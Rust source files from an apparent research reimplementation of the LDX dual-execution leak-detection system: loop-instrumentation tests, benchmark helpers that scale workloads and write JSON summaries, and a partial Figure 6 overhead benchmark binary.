    fn syscall_free_loop_is_not_instrumented() {
        let (p, a) = analyze(
            r#"fn main() {
                let s = 0;
                for (let i = 0; i < 100; i = i + 1) { s = s + i; }
                write(1, str(s));
            }"#,
        );
        let fc = a.func(p.main());
        assert_eq!(fc.forest.loops().len(), 1);
        assert!(fc.instrumented_loops.is_empty());
        assert_eq!(fc.fcnt, 1);
    }

    #[test]
    fn loop_calling_syscall_function_is_instrumented() {
        let (p, a) = analyze(
            r#"
            fn emit(x) { write(1, str(x)); return 0; }
            fn main() {
                for (let i = 0; i < 3; i = i + 1) { emit(i); }
            }"#,
        );
        let fc = a.func(p.main());
        assert_eq!(fc.instrumented_loops.len(), 1);
    }

    #[test]
    fn loop_with_indirect_call_is_instrumented() {
        let (p, a) = analyze(
            r#"
            fn emit(x) { write(1, str(x)); return 0; }
            fn main() {
                let f = &emit;
                for (let i = 0; i < 3; i = i + 1) { f(i); }
            }"#,
        );
        let fc = a.func(p.main());
        assert_eq!(fc.instrumented_loops.len(), 1);
    }

    #[test]
    fn nested_loops_counter_matches_paper_figure4() {
        // The paper's Fig. 4: read sizes, nested loops each with one
        // syscall in the inner body, a write between loops, send at end.
        let (p, a) = analyze(
            r#"fn main() {
                let fd = open("in", 0);
                let nm = read(fd, 8);
                let n = int(nm);
                let m = n;
                let total = 0;
                for (let i = 0; i < n; i = i + 1) {
                    for (let j = 0; j < m; j = j + 1) {
                        let d = read(fd, 4);
                        total = total + int(d);
                    }
                    write(1, str(total));
                }
                send(connect("out"), str(total));
            }"#,
        );
        let fc = a.func(p.main());
        assert_eq!(fc.instrumented_loops.len(), 2);
        // open(1) read(2); inner loop: read -> 3; exit inner (>=4), write
        // -> 5 inside outer; exit outer >= 6; connect 7, send 8.
        assert_eq!(fc.fcnt, 8);
    }

    #[test]
    fn mutual_recursion_fcnt_is_local_only() {
        let (p, a) = analyze(
            r#"
            fn ping(n) { write(1, "p"); if (n > 0) { pong(n - 1); } return 0; }
            fn pong(n) { write(1, "o"); if (n > 0) { ping(n - 1); } return 0; }
            fn main() { ping(4); }
            "#,
        );
        let ping = p.func_id("ping").unwrap();
        let pong = p.func_id("pong").unwrap();
        assert_eq!(a.fcnt(ping), 1);
        assert_eq!(a.fcnt(pong), 1);
        // main's call to ping is NOT recursive (different SCC): adds 1.
        assert_eq!(a.fcnt(p.main()), 1);
    }

    #[test]
    fn classify_edges_finds_backedge_and_exit() {
        let (p, a) = analyze(
            r#"fn main() {
                let i = 0;
                while (i < 5) {
                    write(1, str(i));
                    i = i + 1;
                }
                close(1);
            }"#,
        );
        let f = p.func(p.main());
        let fc = a.func(p.main());
        let edges = classify_edges(f, fc);
        let backedges: Vec<_> = edges
            .values()
            .filter(|k| matches!(k, EdgeKind::Backedge { .. }))
            .collect();
        assert_eq!(backedges.len(), 1);
        assert!(matches!(backedges[0], EdgeKind::Backedge { sub: 1, .. }));
        let exits: Vec<_> = edges
            .values()
            .filter_map(|k| match k {
                EdgeKind::Exit { add, .. } => Some(*add),
                _ => None,
            })
            .collect();
        assert_eq!(exits.len(), 1);
        assert_eq!(exits[0], 2, "exit raises past in-loop max (+1 strict)");
        let enters: Vec<_> = edges
            .values()
            .filter(|k| matches!(k, EdgeKind::Plain { enters, .. } if !enters.is_empty()))
            .collect();
        assert_eq!(enters.len(), 1);
    }

    #[test]
    fn compensated_branch_edges_have_positive_delta() {
        let (p, a) = analyze(
            r#"fn main() {
                let x = getpid();
                if (x > 0) {
                    write(1, "a");
                    write(1, "b");
                }
                close(1);
            }"#,
        );
        let f = p.func(p.main());
        let fc = a.func(p.main());
        let edges = classify_edges(f, fc);
        // The empty else edge must be compensated by +2.
        let max_delta = edges
            .values()
            .filter_map(|k| match k {
                EdgeKind::Plain { delta, .. } => Some(*delta),
                _ => None,
            })
            .max()
            .unwrap();
        assert_eq!(max_delta, 2);
    }
}
