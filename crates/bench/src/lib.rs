//! Shared helpers for the LDX benchmark harness.
//!
//! The `src/bin/` binaries regenerate the paper's evaluation artifacts:
//!
//! | binary                  | paper artifact |
//! |-------------------------|----------------|
//! | `table1`                | Table 1 — benchmarks & instrumentation |
//! | `table2`                | Table 2 — dual-execution effectiveness vs TightLip |
//! | `table3`                | Table 3 — tainted sinks: LDX vs TAINTGRIND vs LIBDFT |
//! | `table4`                | Table 4 — concurrent programs, 100-run variance |
//! | `figure6`               | Figure 6 — normalized overhead of LDX |
//! | `ablation_mutation`     | §8.3 input-mutation strategy study |
//! | `ablation_compensation` | DESIGN.md ablation: counters without compensation |
//!
//! The Criterion benches in `benches/` measure the same quantities under a
//! statistics harness.

use ldx_dualex::{dual_execute, DualReport, DualSpec};
use ldx_ir::IrProgram;
use ldx_runtime::{run_program, ExecConfig, NativeHooks, RunOutcome, Trap};
use ldx_vos::{Vos, VosConfig};
use ldx_workloads::Workload;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Times one closure invocation.
pub fn time_it<T>(f: impl FnOnce() -> T) -> (Duration, T) {
    let start = Instant::now();
    let out = f();
    (start.elapsed(), out)
}

/// Runs a program natively (single execution) and times it.
pub fn run_native_timed(
    program: &Arc<IrProgram>,
    world: &VosConfig,
) -> (Duration, Result<RunOutcome, Trap>) {
    let vos = Arc::new(Vos::new(world));
    let hooks = Arc::new(NativeHooks::new(vos));
    let program = Arc::clone(program);
    time_it(move || run_program(program, hooks, ExecConfig::default()))
}

/// Runs a dual execution and times it.
pub fn run_dual_timed(
    program: &Arc<IrProgram>,
    world: &VosConfig,
    spec: &DualSpec,
) -> (Duration, DualReport) {
    let program = Arc::clone(program);
    time_it(move || dual_execute(program, world, spec))
}

/// The median of repeated duration samples from `f`.
pub fn median_duration(reps: usize, mut f: impl FnMut() -> Duration) -> Duration {
    let mut samples: Vec<Duration> = (0..reps.max(1)).map(|_| f()).collect();
    samples.sort();
    samples[samples.len() / 2]
}

/// Arithmetic mean.
pub fn mean(xs: &[f64]) -> f64 {
    if xs.is_empty() {
        0.0
    } else {
        xs.iter().sum::<f64>() / xs.len() as f64
    }
}

/// Geometric mean (of positive values).
pub fn geomean(xs: &[f64]) -> f64 {
    if xs.is_empty() {
        return 0.0;
    }
    (xs.iter().map(|x| x.max(1e-12).ln()).sum::<f64>() / xs.len() as f64).exp()
}

/// Sample standard deviation.
pub fn stddev(xs: &[f64]) -> f64 {
    if xs.len() < 2 {
        return 0.0;
    }
    let m = mean(xs);
    (xs.iter().map(|x| (x - m) * (x - m)).sum::<f64>() / (xs.len() - 1) as f64).sqrt()
}

/// Scales a workload's world so that its runtime is long enough for
/// meaningful overhead measurement (the corpus defaults are sized for fast
/// correctness tests). Returns `None` for workloads whose input shape
/// cannot be scaled mechanically.
pub fn scaled_world(w: &Workload) -> Option<VosConfig> {
    let mut world = w.world.clone();
    match w.name {
        "minzip" => {
            let mut data = String::new();
            for i in 0..200 {
                let c = char::from(b'a' + (i % 26) as u8);
                for _ in 0..(i % 17 + 1) {
                    data.push(c);
                }
            }
            world.set_file("/data/input.txt", data);
        }
        "minhmm" => {
            let a: String = (0..160)
                .map(|i| "ACGT".chars().nth(i % 4).unwrap())
                .collect();
            let b: String = (0..160)
                .map(|i| "ACGT".chars().nth((i * 7 + 1) % 4).unwrap())
                .collect();
            world.set_file("/data/seqs.txt", format!("{a}\n{b}\n"));
        }
        "minh264" => {
            let mut frames = String::new();
            for r in 0..60 {
                for c in 0..32 {
                    frames.push(char::from(b'a' + ((r * 13 + c * 7) % 26) as u8));
                }
                frames.push('\n');
            }
            world.set_file("/data/frames.txt", frames);
        }
        "minflow" => {
            let mut graph = String::from("24\n");
            for i in 0..90 {
                graph.push_str(&format!("{} {} {}\n", i % 24, (i * 5 + 3) % 24, i % 11 + 1));
            }
            world.set_file("/data/graph.txt", graph);
        }
        "minxform" => {
            let mut doc = String::new();
            for i in 0..60 {
                doc.push_str(&format!("<t{i}>node {i} body</t{i}>"));
            }
            world.set_file("/data/doc.xml", doc);
        }
        "minperl" => {
            let mut script = String::new();
            for i in 0..120 {
                script.push_str(&format!(
                    "set v{} {}\nadd v{} {}\nprint v{}\n",
                    i % 9,
                    i,
                    i % 9,
                    i * 3,
                    i % 9
                ));
            }
            world.set_file("/scripts/job.pl", script);
        }
        "minquantum" => {
            let mut gates = String::new();
            for i in 0..100 {
                let g = ["x", "h", "cz"][i % 3];
                gates.push_str(&format!("{g} {}\n", i % 8));
            }
            world.set_file("/data/gates.txt", gates);
        }
        "minsim" => {
            let mut events = String::new();
            for i in 0..90 {
                let kind = if i % 3 == 0 { "depart" } else { "arrive" };
                events.push_str(&format!("{kind} {}\n", i % 7 + 1));
            }
            world.set_file("/data/events.txt", events);
        }
        "minhttpd" => {
            let requests: Vec<String> = (0..60)
                .map(|i| {
                    if i % 3 == 0 {
                        "GET /admin.html".to_string()
                    } else {
                        "GET /index.html".to_string()
                    }
                })
                .collect();
            world.listen.clear();
            world.listen.push((8080, requests));
        }
        _ => return None,
    }
    Some(world)
}

/// The perf-measurement subset: the paper measures "programs that are not
/// interactive and have non-trivial execution time" — here, the workloads
/// with a scaled world.
pub fn perf_workloads() -> Vec<(Workload, VosConfig)> {
    ldx_workloads::corpus()
        .into_iter()
        .filter_map(|w| scaled_world(&w).map(|world| (w, world)))
        .collect()
}

/// Escapes and quotes a string for the hand-rolled JSON writers (the
/// harness emits machine-readable metrics without pulling a serializer
/// into the measurement binaries).
pub fn json_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Formats a float as a JSON number (`null` for non-finite values, which
/// JSON cannot represent).
pub fn json_f64(x: f64) -> String {
    if x.is_finite() {
        format!("{x:.6}")
    } else {
        "null".to_string()
    }
}

/// A machine-readable run summary every bench binary can emit
/// (`--summary [path]`, default `BENCH_<name>.json`): total wall-clock,
/// per-phase nanoseconds, and the final metrics-counter snapshot.
/// Validated by `scripts/check_bench_summary.py`, which also flags
/// wall-clock regressions against `scripts/bench_baseline.json`.
pub struct BenchSummary {
    name: &'static str,
    started: Instant,
    phases: Vec<(String, Duration)>,
    out: Option<String>,
}

impl BenchSummary {
    /// Strips `--summary [path]` from `args` and builds the summary.
    /// Without the flag, the summary is disabled and [`BenchSummary::finish`]
    /// writes nothing; with a bare `--summary`, the output path defaults
    /// to `BENCH_<name>.json` in the working directory.
    pub fn from_args(name: &'static str, args: Vec<String>) -> (Vec<String>, BenchSummary) {
        let mut rest = Vec::with_capacity(args.len());
        let mut out = None;
        let mut it = args.into_iter().peekable();
        while let Some(arg) = it.next() {
            if arg == "--summary" {
                out = Some(match it.peek() {
                    Some(next) if !next.starts_with("--") && next.ends_with(".json") => {
                        it.next().expect("peeked")
                    }
                    _ => format!("BENCH_{name}.json"),
                });
            } else {
                rest.push(arg);
            }
        }
        (
            rest,
            BenchSummary {
                name,
                started: Instant::now(),
                phases: Vec::new(),
                out,
            },
        )
    }

    /// A summary that always writes to `path` (for tests).
    pub fn to_path(name: &'static str, path: impl Into<String>) -> BenchSummary {
        BenchSummary {
            name,
            started: Instant::now(),
            phases: Vec::new(),
            out: Some(path.into()),
        }
    }

    /// Whether `--summary` was requested.
    pub fn enabled(&self) -> bool {
        self.out.is_some()
    }

    /// Records a completed phase's duration.
    pub fn phase(&mut self, label: impl Into<String>, dur: Duration) {
        self.phases.push((label.into(), dur));
    }

    /// Times `f` and records it as a phase.
    pub fn timed<T>(&mut self, label: impl Into<String>, f: impl FnOnce() -> T) -> T {
        let (dur, out) = time_it(f);
        self.phase(label, dur);
        out
    }

    /// The summary as JSON (`schemas/bench_summary_schema.json`).
    pub fn to_json(&self) -> String {
        let mut phases = String::new();
        for (label, dur) in &self.phases {
            if !phases.is_empty() {
                phases.push(',');
            }
            phases.push_str(&format!(
                "\n    {{\"name\": {}, \"ns\": {}}}",
                json_str(label),
                dur.as_nanos()
            ));
        }
        let mut counters = String::new();
        for c in &ldx::obs::metrics_snapshot().counters {
            if !counters.is_empty() {
                counters.push(',');
            }
            counters.push_str(&format!("\n    {}: {}", json_str(c.name), c.value));
        }
        format!(
            "{{\n  \"schema\": \"ldx-bench-summary-v1\",\n  \"name\": {},\n  \
             \"wall_ns\": {},\n  \"phases\": [{phases}\n  ],\n  \
             \"counters\": {{{counters}\n  }}\n}}\n",
            json_str(self.name),
            self.started.elapsed().as_nanos()
        )
    }

    /// Writes the summary when `--summary` was requested; returns the
    /// path written, if any.
    ///
    /// # Errors
    ///
    /// Returns the I/O error if the output file cannot be written.
    pub fn finish(&self) -> std::io::Result<Option<&str>> {
        match &self.out {
            Some(path) => {
                std::fs::write(path, self.to_json())?;
                Ok(Some(path))
            }
            None => Ok(None),
        }
    }
}

/// Writes the summary if requested and logs the outcome — the shared
/// tail of every bench binary's `main`.
pub fn finish_summary(summary: &BenchSummary) {
    match summary.finish() {
        Ok(Some(path)) => println!("bench summary: {path}"),
        Ok(None) => {}
        Err(e) => eprintln!("could not write bench summary: {e}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn statistics_helpers() {
        assert_eq!(mean(&[1.0, 3.0]), 2.0);
        assert!((geomean(&[1.0, 4.0]) - 2.0).abs() < 1e-9);
        assert!(stddev(&[2.0, 2.0, 2.0]) < 1e-12);
        assert!(stddev(&[1.0, 3.0]) > 0.9);
        assert_eq!(mean(&[]), 0.0);
        assert_eq!(geomean(&[]), 0.0);
    }

    #[test]
    fn perf_workloads_run_scaled() {
        let subset = perf_workloads();
        assert!(subset.len() >= 8, "need a meaningful perf subset");
        for (w, world) in subset {
            let program = w.program();
            let (_, out) = run_native_timed(&program, &world);
            let out = out.unwrap_or_else(|e| panic!("scaled `{}` traps: {e}", w.name));
            assert!(
                out.stats.syscalls >= 15 || out.stats.steps >= 3_000,
                "scaled `{}` still trivial ({} syscalls, {} steps)",
                w.name,
                out.stats.syscalls,
                out.stats.steps
            );
        }
    }

    #[test]
    fn median_duration_is_stable() {
        let d = median_duration(3, || Duration::from_millis(1));
        assert_eq!(d, Duration::from_millis(1));
    }

    #[test]
    fn summary_arg_parsing() {
        let v = |args: &[&str]| args.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        let (rest, s) = BenchSummary::from_args("t", v(&["5", "--summary", "out.json"]));
        assert_eq!(rest, v(&["5"]));
        assert!(s.enabled());
        let (rest, s) = BenchSummary::from_args("t", v(&["--summary", "3"]));
        assert_eq!(rest, v(&["3"]), "non-path operand stays an argument");
        assert!(s.enabled());
        let (_, s) = BenchSummary::from_args("t", v(&["5"]));
        assert!(!s.enabled());
        assert!(s.finish().expect("disabled writes nothing").is_none());
    }

    #[test]
    fn summary_json_has_phases_and_counters() {
        let (_, mut s) = BenchSummary::from_args("demo", vec!["--summary".to_string()]);
        let out: u32 = s.timed("warm", || 7);
        assert_eq!(out, 7);
        s.phase("measure", Duration::from_nanos(1234));
        let json = s.to_json();
        assert!(json.contains("\"schema\": \"ldx-bench-summary-v1\""));
        assert!(json.contains("\"name\": \"demo\""));
        assert!(json.contains("\"wall_ns\": "));
        assert!(json.contains("{\"name\": \"warm\", \"ns\": "));
        assert!(json.contains("{\"name\": \"measure\", \"ns\": 1234}"));
        assert!(json.contains("\"counters\": {"));
    }

    #[test]
    fn json_helpers_escape_and_format() {
        assert_eq!(json_str("plain"), "\"plain\"");
        assert_eq!(json_str("a\"b\\c\nd"), "\"a\\\"b\\\\c\\nd\"");
        assert_eq!(json_str("\u{1}"), "\"\\u0001\"");
        assert_eq!(json_f64(1.5), "1.500000");
        assert_eq!(json_f64(f64::NAN), "null");
        assert_eq!(json_f64(f64::INFINITY), "null");
    }
}
