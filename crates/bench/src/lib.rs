//! Shared helpers for the LDX benchmark harness.
//!
//! The `src/bin/` binaries regenerate the paper's evaluation artifacts:
//!
//! | binary                  | paper artifact |
//! |-------------------------|----------------|
//! | `table1`                | Table 1 — benchmarks & instrumentation |
//! | `table2`                | Table 2 — dual-execution effectiveness vs TightLip |
//! | `table3`                | Table 3 — tainted sinks: LDX vs TAINTGRIND vs LIBDFT |
//! | `table4`                | Table 4 — concurrent programs, 100-run variance |
//! | `figure6`               | Figure 6 — normalized overhead of LDX |
//! | `ablation_mutation`     | §8.3 input-mutation strategy study |
//! | `ablation_compensation` | DESIGN.md ablation: counters without compensation |
//!
//! The Criterion benches in `benches/` measure the same quantities under a
//! statistics harness.

use ldx_dualex::{dual_execute, DualReport, DualSpec};
use ldx_ir::IrProgram;
use ldx_runtime::{run_program, ExecConfig, NativeHooks, RunOutcome, Trap};
use ldx_vos::{Vos, VosConfig};
use ldx_workloads::Workload;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Times one closure invocation.
pub fn time_it<T>(f: impl FnOnce() -> T) -> (Duration, T) {
    let start = Instant::now();
    let out = f();
    (start.elapsed(), out)
}

/// Runs a program natively (single execution) and times it.
pub fn run_native_timed(
    program: &Arc<IrProgram>,
    world: &VosConfig,
) -> (Duration, Result<RunOutcome, Trap>) {
    let vos = Arc::new(Vos::new(world));
    let hooks = Arc::new(NativeHooks::new(vos));
    let program = Arc::clone(program);
    time_it(move || run_program(program, hooks, ExecConfig::default()))
}

/// Runs a dual execution and times it.
pub fn run_dual_timed(
    program: &Arc<IrProgram>,
    world: &VosConfig,
    spec: &DualSpec,
) -> (Duration, DualReport) {
    let program = Arc::clone(program);
    time_it(move || dual_execute(program, world, spec))
}

/// The median of repeated duration samples from `f`.
pub fn median_duration(reps: usize, mut f: impl FnMut() -> Duration) -> Duration {
    let mut samples: Vec<Duration> = (0..reps.max(1)).map(|_| f()).collect();
    samples.sort();
    samples[samples.len() / 2]
}

/// Arithmetic mean.
pub fn mean(xs: &[f64]) -> f64 {
    if xs.is_empty() {
        0.0
    } else {
        xs.iter().sum::<f64>() / xs.len() as f64
    }
}

/// Geometric mean (of positive values).
pub fn geomean(xs: &[f64]) -> f64 {
    if xs.is_empty() {
        return 0.0;
    }
    (xs.iter().map(|x| x.max(1e-12).ln()).sum::<f64>() / xs.len() as f64).exp()
}

/// Sample standard deviation.
pub fn stddev(xs: &[f64]) -> f64 {
    if xs.len() < 2 {
        return 0.0;
    }
    let m = mean(xs);
    (xs.iter().map(|x| (x - m) * (x - m)).sum::<f64>() / (xs.len() - 1) as f64).sqrt()
}

/// Scales a workload's world so that its runtime is long enough for
/// meaningful overhead measurement (the corpus defaults are sized for fast
/// correctness tests). Returns `None` for workloads whose input shape
/// cannot be scaled mechanically.
pub fn scaled_world(w: &Workload) -> Option<VosConfig> {
    let mut world = w.world.clone();
    match w.name {
        "minzip" => {
            let mut data = String::new();
            for i in 0..200 {
                let c = char::from(b'a' + (i % 26) as u8);
                for _ in 0..(i % 17 + 1) {
                    data.push(c);
                }
            }
            world.set_file("/data/input.txt", data);
        }
        "minhmm" => {
            let a: String = (0..160)
                .map(|i| "ACGT".chars().nth(i % 4).unwrap())
                .collect();
            let b: String = (0..160)
                .map(|i| "ACGT".chars().nth((i * 7 + 1) % 4).unwrap())
                .collect();
            world.set_file("/data/seqs.txt", format!("{a}\n{b}\n"));
        }
        "minh264" => {
            let mut frames = String::new();
            for r in 0..60 {
                for c in 0..32 {
                    frames.push(char::from(b'a' + ((r * 13 + c * 7) % 26) as u8));
                }
                frames.push('\n');
            }
            world.set_file("/data/frames.txt", frames);
        }
        "minflow" => {
            let mut graph = String::from("24\n");
            for i in 0..90 {
                graph.push_str(&format!("{} {} {}\n", i % 24, (i * 5 + 3) % 24, i % 11 + 1));
            }
            world.set_file("/data/graph.txt", graph);
        }
        "minxform" => {
            let mut doc = String::new();
            for i in 0..60 {
                doc.push_str(&format!("<t{i}>node {i} body</t{i}>"));
            }
            world.set_file("/data/doc.xml", doc);
        }
        "minperl" => {
            let mut script = String::new();
            for i in 0..120 {
                script.push_str(&format!(
                    "set v{} {}\nadd v{} {}\nprint v{}\n",
                    i % 9,
                    i,
                    i % 9,
                    i * 3,
                    i % 9
                ));
            }
            world.set_file("/scripts/job.pl", script);
        }
        "minquantum" => {
            let mut gates = String::new();
            for i in 0..100 {
                let g = ["x", "h", "cz"][i % 3];
                gates.push_str(&format!("{g} {}\n", i % 8));
            }
            world.set_file("/data/gates.txt", gates);
        }
        "minsim" => {
            let mut events = String::new();
            for i in 0..90 {
                let kind = if i % 3 == 0 { "depart" } else { "arrive" };
                events.push_str(&format!("{kind} {}\n", i % 7 + 1));
            }
            world.set_file("/data/events.txt", events);
        }
        "minhttpd" => {
            let requests: Vec<String> = (0..60)
                .map(|i| {
                    if i % 3 == 0 {
                        "GET /admin.html".to_string()
                    } else {
                        "GET /index.html".to_string()
                    }
                })
                .collect();
            world.listen.clear();
            world.listen.push((8080, requests));
        }
        _ => return None,
    }
    Some(world)
}

/// The perf-measurement subset: the paper measures "programs that are not
/// interactive and have non-trivial execution time" — here, the workloads
/// with a scaled world.
pub fn perf_workloads() -> Vec<(Workload, VosConfig)> {
    ldx_workloads::corpus()
        .into_iter()
        .filter_map(|w| scaled_world(&w).map(|world| (w, world)))
        .collect()
}

/// Escapes and quotes a string for the hand-rolled JSON writers (the
/// harness emits machine-readable metrics without pulling a serializer
/// into the measurement binaries).
pub fn json_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Formats a float as a JSON number (`null` for non-finite values, which
/// JSON cannot represent).
pub fn json_f64(x: f64) -> String {
    if x.is_finite() {
        format!("{x:.6}")
    } else {
        "null".to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn statistics_helpers() {
        assert_eq!(mean(&[1.0, 3.0]), 2.0);
        assert!((geomean(&[1.0, 4.0]) - 2.0).abs() < 1e-9);
        assert!(stddev(&[2.0, 2.0, 2.0]) < 1e-12);
        assert!(stddev(&[1.0, 3.0]) > 0.9);
        assert_eq!(mean(&[]), 0.0);
        assert_eq!(geomean(&[]), 0.0);
    }

    #[test]
    fn perf_workloads_run_scaled() {
        let subset = perf_workloads();
        assert!(subset.len() >= 8, "need a meaningful perf subset");
        for (w, world) in subset {
            let program = w.program();
            let (_, out) = run_native_timed(&program, &world);
            let out = out.unwrap_or_else(|e| panic!("scaled `{}` traps: {e}", w.name));
            assert!(
                out.stats.syscalls >= 15 || out.stats.steps >= 3_000,
                "scaled `{}` still trivial ({} syscalls, {} steps)",
                w.name,
                out.stats.syscalls,
                out.stats.steps
            );
        }
    }

    #[test]
    fn median_duration_is_stable() {
        let d = median_duration(3, || Duration::from_millis(1));
        assert_eq!(d, Duration::from_millis(1));
    }

    #[test]
    fn json_helpers_escape_and_format() {
        assert_eq!(json_str("plain"), "\"plain\"");
        assert_eq!(json_str("a\"b\\c\nd"), "\"a\\\"b\\\\c\\nd\"");
        assert_eq!(json_str("\u{1}"), "\"\\u0001\"");
        assert_eq!(json_f64(1.5), "1.500000");
        assert_eq!(json_f64(f64::NAN), "null");
        assert_eq!(json_f64(f64::INFINITY), "null");
    }
}
