//! Regenerates paper **Figure 6**: normalized overhead of LDX.
//!
//! For every perf-measurable workload (scaled inputs, see
//! [`ldx_bench::scaled_world`]):
//!
//! * `same` — dual execution with an identity mutation (master and slave
//!   perfectly aligned): counter maintenance + outcome sharing overhead
//!   (the paper's first bar);
//! * `mutated` — dual execution with the leaking mutation: adds the
//!   divergence/realignment work (the paper's second bar);
//!
//! both normalized to the uninstrumented native run. Also printed: the
//! LIBDFT-like tracker's slowdown (paper §8.1 reports ~6x) and the
//! EI-DualEx baseline's slowdown (paper §9: three orders of magnitude).
//!
//! The paper runs master and slave "concurrently on separate CPUs", so
//! its baseline implicitly grants LDX a second core. On machines without
//! one (CI sandboxes), the two executions' *compute* serializes; the
//! harness therefore also reports the **coupling overhead** — dual time
//! normalized to twice the native time (the two executions' total
//! compute) — which isolates exactly the alignment/synchronization cost
//! the paper's 6.08% measures. The reproduced shape: coupling overhead is
//! small, the taint trackers cost integer factors, and EI-DualEx is far
//! beyond both.
//!
//! After the overhead table (whose timing cells deliberately run on a
//! **sequential** pool so medians are not distorted by co-running cells),
//! the binary runs the whole mutated corpus twice — on a 1-worker pool
//! and on the auto-sized work-stealing pool — and writes the measured
//! per-program wall times and the corpus speedup to `batch_metrics.json`.
//!
//! Run: `cargo run -p ldx-bench --release --bin figure6 [reps] [--summary] [--trace t.json] [--metrics m.json]`

use ldx::{BatchEngine, BatchJob, InstrumentCache};
use ldx_baselines::ei_dual_execute;
use ldx_bench::{
    finish_summary, geomean, json_f64, json_str, mean, median_duration, perf_workloads,
    run_dual_timed, run_native_timed, BenchSummary,
};
use ldx_dualex::{DualSpec, Mutation, SourceSpec};
use ldx_runtime::ExecConfig;
use ldx_taint::{taint_execute, TaintPolicy};
use std::time::Duration;

fn main() {
    let (args, obs_args) = ldx::obs::parse_obs_args(std::env::args().skip(1).collect());
    ldx::obs::init(&obs_args);
    let (args, mut summary) = BenchSummary::from_args("figure6", args);
    let reps: usize = args.first().and_then(|s| s.parse().ok()).unwrap_or(5);
    let cpus = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    println!(
        "median of {reps} repetitions per cell; {cpus} CPU(s) available \
         (the paper assumes a dedicated second CPU for the slave)\n"
    );
    println!(
        "{:<10} {:>10} {:>8} {:>9} {:>9} {:>9} {:>9} {:>10}",
        "program", "native", "same", "couple%", "mutated", "libdft", "tgrind", "ei-dualex"
    );

    let cache = InstrumentCache::new();

    // Timing cells must not co-run (they would steal each other's cycles
    // and distort the medians), so the table uses the batch API on an
    // explicit one-worker pool.
    let phase_start = std::time::Instant::now();
    let cells = BatchEngine::sequential().map_ordered(perf_workloads(), |(w, world)| {
        let plain = cache.uninstrumented(&w.source).expect("workload compiles");
        let instrumented = cache.program(&w.source).expect("workload compiles");

        let native = median_duration(reps, || run_native_timed(&plain, &world).0);

        let identity_spec = DualSpec {
            sources: w
                .sources
                .iter()
                .map(|s| SourceSpec {
                    matcher: s.matcher.clone(),
                    mutation: Mutation::Identity,
                })
                .collect(),
            sinks: w.sinks.clone(),
            trace: false,
            record: false,
            enforcement: false,
            exec: ExecConfig::default(),
        };
        let same = median_duration(reps, || {
            run_dual_timed(&instrumented, &world, &identity_spec).0
        });

        let mut mutated_spec = w.dual_spec();
        mutated_spec.exec = ExecConfig::default();
        let mutated = median_duration(reps, || {
            run_dual_timed(&instrumented, &world, &mutated_spec).0
        });

        let taint_time = |policy: TaintPolicy| {
            median_duration(reps, || {
                let start = std::time::Instant::now();
                let _ = taint_execute(&plain, &world, &w.sources, &w.sinks, policy);
                start.elapsed()
            })
        };
        let libdft = taint_time(TaintPolicy::LibDftLike);
        let taintgrind = taint_time(TaintPolicy::TaintGrindLike);

        let ei = median_duration(reps.min(3), || {
            let start = std::time::Instant::now();
            let _ = ei_dual_execute(
                instrumented.clone(),
                &world,
                &w.sources,
                &w.sinks,
                ExecConfig::default(),
            );
            start.elapsed()
        });

        (w, world, native, same, mutated, libdft, taintgrind, ei)
    });
    summary.phase("overhead-table", phase_start.elapsed());

    let mut same_ratios = Vec::new();
    let mut mutated_ratios = Vec::new();
    let mut taint_ratios = Vec::new();
    let mut ei_ratios = Vec::new();

    for (w, _, native, same, mutated, libdft, taintgrind, ei) in &cells {
        let ratio = |d: &Duration| d.as_secs_f64() / native.as_secs_f64().max(1e-9);
        // The compute baseline for a dual execution: two executions' work
        // (one core each in the paper's setup).
        let dual_cores = cpus.min(2) as f64;
        let couple = ratio(same) * dual_cores / 2.0;
        same_ratios.push(couple);
        mutated_ratios.push(ratio(mutated) * dual_cores / 2.0);
        taint_ratios.push(ratio(libdft));
        ei_ratios.push(ratio(ei));

        println!(
            "{:<10} {:>9.2?} {:>7.2}x {:>8.1}% {:>8.2}x {:>8.2}x {:>8.2}x {:>9.2}x",
            w.name,
            native,
            ratio(same),
            (couple - 1.0) * 100.0,
            ratio(mutated),
            ratio(libdft),
            ratio(taintgrind),
            ratio(ei),
        );
    }

    println!(
        "\nLDX coupling overhead (same-input): geomean {:+.1}%, mean {:+.1}% (paper: +4.45% / +5.7%)",
        (geomean(&same_ratios) - 1.0) * 100.0,
        (mean(&same_ratios) - 1.0) * 100.0
    );
    println!(
        "LDX coupling overhead (mutated):    geomean {:+.1}%, mean {:+.1}% (paper: +4.7% / +6.08%)",
        (geomean(&mutated_ratios) - 1.0) * 100.0,
        (mean(&mutated_ratios) - 1.0) * 100.0
    );
    println!(
        "LIBDFT-like: mean {:.2}x of native (paper: ~6x)  |  EI-DualEx: mean {:.0}x (paper: ~1000x)",
        mean(&taint_ratios),
        mean(&ei_ratios)
    );

    // ---- Batch scaling experiment: the whole mutated corpus, 1 worker
    // vs the auto-sized work-stealing pool. -----------------------------
    let make_jobs = || {
        cells
            .iter()
            .map(|(w, world, ..)| {
                let mut spec = w.dual_spec();
                spec.exec = ExecConfig::default();
                BatchJob::new(
                    w.name,
                    cache.program(&w.source).expect("cached"),
                    world.clone(),
                    spec,
                )
            })
            .collect::<Vec<_>>()
    };
    let sequential = summary.timed("batch-sequential", || {
        BatchEngine::sequential().run(make_jobs())
    });
    let parallel = summary.timed("batch-parallel", || BatchEngine::auto().run(make_jobs()));
